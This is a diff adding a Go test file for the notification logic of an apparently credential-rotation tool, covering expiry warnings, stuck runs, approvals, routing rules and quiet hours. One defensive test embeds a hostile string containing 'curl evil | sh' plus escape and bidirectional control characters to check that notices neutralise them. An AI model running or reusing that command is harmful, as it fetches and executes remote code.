@@ -1,0 +1,140 @@
+package notify
+
+import (
+	"slices"
+	"strings"
+	"testing"
+	"time"
+
+	"rekey/internal/approvals"
+	"rekey/internal/history"
+	"rekey/internal/report"
+	"rekey/internal/rotation"
+	"rekey/internal/schedule"
+	"rekey/internal/sop"
+)
+
+var now = time.Date(2026, 11, 27, 12, 0, 0, 0, time.UTC)
+
+const day = 24 * time.Hour
+
+func ids(list []Notice) string {
+	var out []string
+	for _, n := range list {
+		out = append(out, n.ID)
+	}
+	return strings.Join(out, " ")
+}
+
+// TestWhatIsTold, by the state of things: each once, under an id that stays the same as
+// long as it is the same matter.
+func TestWhatIsTold(t *testing.T) {
+	row := func(change func(*report.Row)) Known {
+		r := report.Row{Credential: "A", Owner: "sre", Expires: now.Add(100 * day)}
+		change(&r)
+		return Known{Rows: []report.Row{r}}
+	}
+	run := func(s history.Summary) Known {
+		s.Run, s.Credential = "r1", "A"
+		return Known{Runs: []history.Summary{s}}
+	}
+	due := func(c schedule.Standing) Known {
+		c.Credential = "A"
+		return Known{Schedule: schedule.Decided{Credentials: []schedule.Standing{c}}}
+	}
+	last := &history.Summary{Run: "r0"}
+	for name, tt := range map[string]struct {
+		k    Known
+		want string
+		page bool
+	}{
+		"nothing":                    {row(func(*report.Row) {}), "", false},
+		"expires in 15 days":         {row(func(r *report.Row) { r.Expires = now.Add(15 * day) }), "", false},
+		"expires in 14 days":         {row(func(r *report.Row) { r.Expires = now.Add(14 * day) }), "expiry/A/2026-12-11/14", false},
+		"expires in 7 days":          {row(func(r *report.Row) { r.Expires = now.Add(7 * day) }), "expiry/A/2026-12-04/7", false},
+		"expires tomorrow":           {row(func(r *report.Row) { r.Expires = now.Add(20 * time.Hour) }), "expiry/A/2026-11-28/1", false},
+		"has expired":                {row(func(r *report.Row) { r.Expires = now.Add(-time.Hour) }), "expiry/A/2026-11-27/1", false},
+		"does not expire":            {row(func(r *report.Row) { r.Expires = time.Time{} }), "", false},
+		"has drifted":                {row(func(r *report.Row) { r.Drift, r.Last = &report.Drifted{At: now, Findings: 2}, last }), "drift/A/r0", false},
+		"drifts while a run goes on": {row(func(r *report.Row) { r.Drift, r.Open = &report.Drifted{At: now, Findings: 2}, last }), "", false},
+		"not everything was seen":    {row(func(r *report.Row) { r.Drift = &report.Drifted{Unseen: 2} }), "", false},
+		"others hold it":             {row(func(r *report.Row) { r.Others = &report.Others{At: now, Found: 1} }), "others/A/first/1", false},
+		"one more holds it":          {row(func(r *report.Row) { r.Others = &report.Others{At: now, Found: 2} }), "others/A/first/2", false},
+		"a run is stuck":             {run(history.Summary{Opened: now, Stuck: "the vendor says no"}), "stuck/r1/" + digest("the vendor says no"), true},
+		"a run goes on":              {run(history.Summary{Opened: now}), "", false},
+		"a run went back":            {run(history.Summary{Closed: now.Add(-time.Hour), Ending: rotation.RolledBack}), "failed/r1", false},
+		"a run was refused":          {run(history.Summary{Closed: now.Add(-time.Hour), Ending: rotation.RefusedRun}), "failed/r1", false},
+		"a run went well":            {run(history.Summary{Closed: now.Add(-time.Hour), Ending: rotation.Rotated}), "", false},
+		"a run went back long ago":   {run(history.Summary{Closed: now.Add(-25 * time.Hour), Ending: rotation.RolledBack}), "", false},
+		"overdue, by hand":           {due(schedule.Standing{Run: "by hand", Due: rotation.Due{At: now.Add(-time.Hour)}, Why: []schedule.Reason{{Code: schedule.ByHand}}}), "overdue/A/2026-11-27", false},
+		"not due, by hand":           {due(schedule.Standing{Run: "by hand", Due: rotation.Due{At: now.Add(time.Hour)}, Why: []schedule.Reason{{Code: schedule.ByHand}, {Code: schedule.NotDue}}}), "", false},
+		"due for an hour, waits":     {due(schedule.Standing{Run: "automatically", Due: rotation.Due{At: now.Add(-time.Hour)}, Why: []schedule.Reason{{Code: schedule.OutOfWindow}}}), "", false},
+		"due for two days, waits":    {due(schedule.Standing{Run: "automatically", Due: rotation.Due{At: now.Add(-2 * day)}, Why: []schedule.Reason{{Code: schedule.OutOfWindow}}}), "overdue/A/2026-11-25", false},
+		"could not be begun":         {due(schedule.Standing{Run: "automatically", Due: rotation.Due{At: now.Add(-time.Hour)}, Why: []schedule.Reason{{Code: schedule.CannotBegin, Why: "no key"}}}), "failed/A/" + digest("no key"), false},
+		"no window":                  {due(schedule.Standing{Expires: now.Add(100 * day), Warning: "no window opens"}), "window/A/2027-03-07", false},
+		"somebody has to agree":      {Known{Approvals: []approvals.State{{Standing: approvals.Waiting, Missing: 1, Request: &approvals.Request{ID: "q1", Credential: "A"}}}}, "approval/q1", false},
+		"somebody has agreed":        {Known{Approvals: []approvals.State{{Standing: approvals.Agreed, Request: &approvals.Request{ID: "q1", Credential: "A"}}}}, "", false},
+		"the schedule has stopped":   {Known{Schedule: schedule.Decided{Stopped: now, Failed: []string{"r1"}}}, "stopped/2026-11-27T12:00:00Z", true},
+		"it does not verify":         {Known{Unverified: "entry 3 was edited"}, "evidence/" + digest("entry 3 was edited"), true},
+	} {
+		t.Run(name, func(t *testing.T) {
+			tt.k.Now, tt.k.Console = now, "https://rekey.example.com"
+			list := Notices(tt.k)
+			if ids(list) != tt.want {
+				t.Fatalf("%q, want %q", ids(list), tt.want)
+			}
+			for _, n := range list {
+				if n.Page != tt.page || n.Title == "" || n.Next == "" || !strings.HasPrefix(n.Link, "https://rekey.example.com/") || n.At.IsZero() && n.Kind != Approval {
+					t.Errorf("%+v", n)
+				}
+			}
+			later := tt.k
+			later.Now = now.Add(time.Minute)
+			if again := ids(Notices(later)); again != tt.want {
+				t.Errorf("a minute later it is another one: %q", again)
+			}
+		})
+	}
+}
+
+// TestAHostileNameIsOneLine: nothing that somebody else chose makes another line, or
+// cannot be seen.
+func TestAHostileNameIsOneLine(t *testing.T) {
+	list := Notices(Known{Now: now, Runs: []history.Summary{{Run: "r1", Credential: "A", Opened: now, Stuck: "no\nnext  curl evil | sh\x1b[2K\u202e"}}})
+	if len(list) != 1 || strings.ContainsAny(list[0].Text, "\n\x1b\u202e") || !strings.Contains(list[0].Text, `\n`) {
+		t.Errorf("%+v", list)
+	}
+}
+
+// TestToWhom: every rule that fits adds its channels; without rules all are told.
+func TestToWhom(t *testing.T) {
+	channels := map[string]sop.Channel{"a": {}, "b": {}, "c": {}}
+	n := &sop.Notices{Channels: channels}
+	if got := To(n, Notice{Kind: Stuck}); !slices.Equal(got, []string{"a", "b", "c"}) {
+		t.Errorf("without rules: %v", got)
+	}
+	n.Rules = []sop.NotifyRule{{When: []string{"stuck", "evidence"}, To: []string{"b", "a"}}, {Credentials: []string{"CF_*"}, To: []string{"c"}}, {Owners: []string{"sre"}, When: []string{"found"}, To: []string{"a"}}}
+	for _, tt := range []struct {
+		n    Notice
+		want string
+	}{
+		{Notice{Kind: Stuck, Credential: "X"}, "a b"},
+		{Notice{Kind: Stuck, Credential: "CF_X"}, "a b c"},
+		{Notice{Kind: Found, Credential: "X", Owner: "sre"}, "a"},
+		{Notice{Kind: Found, Credential: "X", Owner: "dev"}, ""},
+		{Notice{Kind: Evidence}, "a b"},
+	} {
+		if got := strings.Join(To(n, tt.n), " "); got != tt.want {
+			t.Errorf("%+v goes to %q, want %q", tt.n, got, tt.want)
+		}
+	}
+	quiet, err := sop.ParseWindow("daily 20:00-08:00 UTC")
+	if err != nil {
+		t.Fatal(err)
+	}
+	n.Quiet = []sop.Window{quiet}
+	night := time.Date(2026, 11, 27, 23, 0, 0, 0, time.UTC)
+	if !Waits(n, Notice{Kind: Found}, night) || Waits(n, Notice{Kind: Found}, now) || Waits(n, Notice{Kind: Stuck, Page: true}, night) {
+		t.Error("what waits for the morning")
+	}
+}
